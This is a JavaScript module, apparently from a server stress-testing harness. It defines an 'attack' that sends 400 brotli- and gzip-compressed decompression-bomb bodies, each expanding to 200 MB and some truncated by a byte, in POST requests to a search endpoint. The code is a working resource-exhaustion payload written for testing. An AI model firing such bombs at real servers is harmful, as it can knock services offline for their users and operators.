import { brotliCompressSync, constants, gzipSync } from 'node:zlib'
import { manyUntil, request, send } from '../client.mjs'

const bomb = Buffer.alloc(200_000_000, 32)
const heads = {
  br: brotliCompressSync(bomb, { params: { [constants.BROTLI_PARAM_LGWIN]: 24, [constants.BROTLI_PARAM_QUALITY]: 5 } }),
  gzip: gzipSync(bomb),
}

/** An attack with many compressed bodies that expand to 200 MB each. Some of them lack the last byte. */
export const shape = {
  name: '400 bodies packed by br and gzip that unpack without end',
  beside: ['uploads'],
  attack: ({ port, from, signal }) =>
    manyUntil(signal, 400, i => {
      const encoding = i % 2 === 0 ? 'br' : 'gzip'
      const headers = `Content-Type: application/json\r\nContent-Length: ${heads[encoding].length}\r\nContent-Encoding: ${encoding}\r\n`
      const text = Buffer.concat([Buffer.from(request('POST', '/@querystring-search', { headers })), heads[encoding]])
      return send(port, i % 4 < 2 ? text : text.subarray(0, -1), { from: from(i), signal, seconds: 60 })
    }),
}
